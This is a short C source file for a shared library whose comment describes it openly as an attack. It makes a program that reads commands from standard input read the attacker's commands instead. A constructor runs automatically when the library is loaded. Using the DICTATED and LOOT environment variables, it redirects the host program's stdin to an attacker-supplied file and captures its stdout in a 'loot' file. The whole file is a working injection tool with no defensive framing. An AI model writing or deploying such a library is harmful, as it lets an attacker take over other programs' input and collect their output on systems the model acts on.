/* A library for a program that reads calls from standard input: it makes the program read the attacker's calls instead. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdlib.h>
#include <unistd.h>

__attribute__((constructor)) static void dictate(void) {
    const char *calls = getenv("DICTATED"), *loot = getenv("LOOT");
    if (!calls || !loot) return;
    int input = open(calls, O_RDONLY), output = open(loot, O_WRONLY | O_CREAT | O_TRUNC, 0600);
    if (input >= 0) dup2(input, STDIN_FILENO);
    if (output >= 0) dup2(output, STDOUT_FILENO);
}
